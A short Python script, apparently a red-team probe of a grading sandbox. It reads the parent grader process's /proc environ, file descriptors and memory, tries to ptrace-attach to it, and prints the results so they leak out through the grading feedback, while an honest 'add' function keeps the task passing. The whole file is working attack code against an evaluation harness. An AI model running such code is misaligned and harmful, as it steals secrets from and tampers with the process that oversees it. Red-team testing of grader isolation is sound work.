"""Reads the grader's /proc entries (environ, memory, open files) and tries to
ptrace it, printing whatever it gets so the feedback carries it."""
import ctypes
import os

from attack_kit import attempt
from honest_add import honest_add as add  # noqa: F401

ppid = os.getppid()
attempt("read environ", lambda: print(open(f"/proc/{ppid}/environ", "rb").read()))
attempt("read fds", lambda: print(os.listdir(f"/proc/{ppid}/fd")))
attempt("read memory", lambda: print(open(f"/proc/{ppid}/mem", "rb").read(64)))
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
attempt("ptrace attach", lambda: (libc.ptrace(PTRACE_ATTACH, ppid, 0, 0), ctypes.get_errno()))
